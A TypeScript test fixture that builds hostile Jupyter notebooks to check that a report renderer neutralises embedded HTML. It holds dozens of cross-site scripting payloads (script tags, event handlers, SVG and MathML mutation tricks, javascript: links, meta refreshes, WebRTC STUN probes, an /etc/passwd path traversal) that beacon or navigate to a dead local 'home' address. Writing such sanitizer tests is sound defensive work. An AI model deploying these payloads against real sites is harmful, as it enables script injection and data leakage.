/**
 * Notebooks that try to run a script in the report, to call home, or to lead the reader away.
 *
 * @module
 */
import { FRAME_TYPE } from "../../lib/notebook/frame_type.ts";
import type { Notebook } from "../../lib/report/notebook.ts";

/** Where hostile notebooks call; nobody is there. */
export const HOME = "http://127.0.0.1:9";
/** What a script does that should not run: it marks the page, calls home and goes there. */
const RUN = `document.documentElement.dataset.hit='1';` +
  `try{top.document.documentElement.dataset.hit='1'}catch{};fetch('${HOME}/fetch');` +
  `new Image().src='${HOME}/image';location='${HOME}/location'`;
const SCRIPT = `<script>${RUN}</script>`;
const ON = `onerror="${RUN}" onload="${RUN}" onfocus="${RUN}" autofocus onmouseover="${RUN}"`;

/** Pieces of HTML that must be inert wherever they stand. */
export const MARKUP: Readonly<Record<string, string>> = {
  "a script": SCRIPT,
  "a script with odd case and a slash": `<ScRiPt/x>${RUN}</sCrIpT >`,
  "a module": `<script type="module">${RUN}</script>`,
  "a script from elsewhere": `<script src="${HOME}/x.js"></script>`,
  "a broken script": `<script>${RUN}//<!--`,
  "a handler of a picture": `<img src="data:image/png;base64,AA==" ${ON}>`,
  "a handler of a missing picture": `<img src=x ${ON}>`,
  "a handler without quotes": `<img src=x onerror=document.documentElement.dataset.hit=1>`,
  "an SVG with a handler": `<svg ${ON}>${SCRIPT}</svg>`,
  "an SVG behind an SVG": `<svg></svg><svg/onload=document.documentElement.dataset.hit=1>`,
  "an SVG with a foreign object":
    `<svg><foreignObject><body>${SCRIPT}<img src=x ${ON}></foreignObject></svg>`,
  "an SVG with animation":
    `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=9>x</text></a></svg>`,
  "an SVG that uses another":
    `<svg><use xlink:href="data:image/svg+xml,${SCRIPT}#x"/><image href="${HOME}/x.png"/></svg>`,
  "an unclosed SVG": `<svg><style><img src=x ${ON}>`,
  "a frame": `<iframe src="${HOME}/frame"></iframe>`,
  "a frame with a document": `<iframe srcdoc="${SCRIPT.replaceAll('"', "&quot;")}"></iframe>`,
  "a frame with a script's address": `<iframe src="javascript:parent.${RUN}"></iframe>`,
  "an object": `<object data="${HOME}/object"></object><embed src="${HOME}/embed">`,
  "a link with a script": `<a href="javascript:${RUN}">x</a>`,
  "a link with a hidden script": `<a href=" java&#10;script&colon;${RUN}">x</a>`,
  "a link with data": `<a href="data:text/html,${SCRIPT}">x</a>`,
  "a link that pings": `<a href="#x" ping="${HOME}/ping">x</a>`,
  "a picture from elsewhere":
    `<img src="${HOME}/pixel.png"><picture><source srcset="${HOME}/s.png"><img></picture>`,
  "a picture set": `<img srcset="${HOME}/set.png 2x" src="data:image/png;base64,AA==">`,
  "a background": `<table background="${HOME}/b.png"><tr><td background="${HOME}/c.png">x</table>`,
  "a video":
    `<video src="${HOME}/v.mp4" poster="${HOME}/p.png" autoplay></video><audio src="${HOME}/a"></audio>`,
  "a form":
    `<form action="${HOME}/form"><input name=a ${ON}><button formaction="javascript:${RUN}">x</button></form>`,
  "an input picture": `<input type="image" src="${HOME}/i.png">`,
  "a style sheet":
    `<style>body { background: url(${HOME}/style) } @import "${HOME}/import";</style>`,
  "a linked style sheet":
    `<link rel="stylesheet" href="${HOME}/x.css"><link rel="prefetch" href="${HOME}/p">`,
  "a style attribute":
    `<p style="background: url(${HOME}/attr); position: fixed; inset: 0">over all</p>`,
  "a base": `<base href="${HOME}/"><a href="x">x</a>`,
  "a refresh": `<meta http-equiv="refresh" content="0; url=${HOME}/refresh">`,
  "a policy": `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  "mathematics that mutates":
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x ${
      ON.replaceAll('"', "'")
    }&gt;">`,
  "mathematics with a link":
    `<math href="javascript:${RUN}"><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  "a script hidden from readers without JavaScript":
    `<noscript><p title="</noscript><img src=x ${ON}>"></noscript>`,
  "a template":
    `<template><script>${RUN}</script></template><template shadowrootmode="open"><img src=x ${ON}></template>`,
  "a text area": `<textarea></textarea><img src=x ${ON}></textarea>`,
  "a title": `<title></title><img src=x ${ON}></title>`,
  "a comment": `<!--><img src=x ${ON}>--><!-- --!><img src=x ${ON}> -->`,
  "character data": `<![CDATA[><img src=x ${ON}>]]><?xml ?><img src=x ${ON}>`,
  "the end of the page": `</code></pre></main></body></html>${SCRIPT}`,
  "the end of an attribute": `"'\`><img src=x ${ON}>`,
  "names that hide the document's":
    `<img name="querySelector"><a id="documentElement"></a><form name="body"><input name="attributes"></form>`,
  "a details handler": `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  "a marquee": `<marquee onstart="${RUN}">x</marquee><body onload="${RUN}">`,
  "custom elements": `<x-y is="z" ${ON} tabindex=1>x</x-y><slot ${ON}></slot>`,
};

/** A notebook that has a piece of HTML wherever a notebook can have text. */
function everywhere(markup: string): Notebook {
  const data = (type: string, content: unknown = markup) => ({
    output_type: "display_data",
    data: { [type]: content },
    metadata: { alt: markup },
  });
  return notebook([
    { cell_type: "markdown", metadata: {}, source: `# ${markup}\n\n${markup}\n\nafter` },
    {
      cell_type: "markdown",
      metadata: {},
      source: `$${markup}$ and \`${markup}\` [x](${markup}) ![${markup}](x)`,
    },
    {
      cell_type: "markdown",
      metadata: {},
      source: `\`\`\`${markup}\n${markup}\n\`\`\`\n\n| a |\n|--|\n| ${markup} |`,
    },
    { cell_type: "raw", metadata: {}, source: markup },
    code(
      [
        { output_type: "stream", name: "stdout", text: markup },
        { output_type: "stream", name: markup, text: "x" },
        { output_type: "error", ename: markup, evalue: markup, traceback: [markup] },
        { output_type: "error", ename: markup, evalue: markup, traceback: [] },
        data("text/html"),
        data("text/markdown"),
        data("text/plain"),
        data("text/latex"),
        data("image/png"),
        data("image/svg+xml", `<svg aria-label="${markup.replaceAll('"', "'")}">${markup}</svg>`),
        data("image/svg+xml"),
        data("application/json", { [markup]: markup }),
        data(markup),
        data(FRAME_TYPE),
        data(FRAME_TYPE, `<!DOCTYPE html><title>x</title>${markup}`),
        {
          output_type: "execute_result",
          data: { "text/html": markup },
          metadata: {},
          execution_count: markup,
        },
      ],
      markup,
      markup,
    ),
  ]);
}

function code(outputs: unknown[], source = "1", count: unknown = 1) {
  return { cell_type: "code", metadata: {}, source, outputs, execution_count: count };
}

function notebook(cells: unknown[]): Notebook {
  return { cells, metadata: {}, nbformat: 4, nbformat_minor: 5 } as Notebook;
}

const frame = (html: string) =>
  notebook([code([{ output_type: "display_data", data: { [FRAME_TYPE]: html }, metadata: {} }])]);
const head = `<!DOCTYPE html><html><head><title>Frame</title></head><body>`;

/** Pages to explore that this library did not make, each with another way out. */
const FRAMES: Readonly<Record<string, string>> = {
  "a frame with a script": `${head}${SCRIPT}`,
  "a frame that navigates":
    `${head}<script>top.location='${HOME}/top';location='${HOME}/self'</script>`,
  "a frame with a refresh": `${head}<meta http-equiv="refresh" content="0; url=${HOME}/refresh">`,
  "a frame in a frame": `${head}<iframe src="${HOME}/nested"></iframe>`,
  "a frame that asks a STUN server":
    `${head}<script>const p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:9'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o));${RUN}</script>`,
  "a frame that preconnects":
    `${head}<link rel="preconnect" href="${HOME}"><link rel="dns-prefetch" href="${HOME}">`,
  "a frame that opens a window": `${head}<script>open('${HOME}/window')</script>`,
  "a frame that posts messages":
    `${head}<script>parent.postMessage({theme:'<img src=x onerror=1>'},'*');${RUN}</script>`,
  "a frame that looks like the map":
    `${head}<template id="data" data-info="{}" data-points="{}"></template><header><h1>x</h1><p>y</p></header>${SCRIPT}`,
};

/** Every hostile notebook, by what it tries. */
export const HOSTILE: Readonly<Record<string, Notebook>> = {
  ...Object.fromEntries(Object.entries(MARKUP).map(([name, markup]) => [name, everywhere(markup)])),
  ...Object.fromEntries(Object.entries(FRAMES).map(([name, html]) => [name, frame(html)])),
  "a frame and a stream whose name is its script": notebook([
    code([
      { output_type: "display_data", data: { [FRAME_TYPE]: `${head}${SCRIPT}` }, metadata: {} },
      { output_type: "stream", name: `x">${SCRIPT}<pre class="`, text: "x" },
    ]),
  ]),
  "an execution count that is a refresh": notebook([
    code([], "1", `]</span><meta http-equiv=refresh content="0;url=${HOME}/count">`),
  ]),
  "attachments that are scripts": notebook([{
    cell_type: "markdown",
    metadata: {},
    source: "![p](attachment:p.png) <img src='attachment:q.svg'> ![r](../../../../etc/passwd)",
    attachments: {
      "p.png": { "text/html": SCRIPT },
      "q.svg": { "image/png": `"><script>${RUN}</script>` },
    },
  }]),
  "a thousand nested quotations": notebook([
    { cell_type: "markdown", metadata: {}, source: `${">".repeat(1000)} ${SCRIPT}` },
  ]),
  "content that is not text": notebook([
    code([
      { output_type: "display_data", data: { "text/html": 5 }, metadata: {} },
      { output_type: "display_data", data: { "image/svg+xml": { a: SCRIPT } }, metadata: {} },
    ]),
  ]),
  "mathematics with links and classes": notebook([{
    cell_type: "markdown",
    metadata: {},
    source:
      `$\\href{javascript:${RUN}}{x}$ $\\url{javascript:1}$ $\\includegraphics{${HOME}/x.png}$ ` +
      `$\\htmlData{hit=1}{x}$ $\\htmlStyle{position: fixed}{x}$`,
  }]),
};
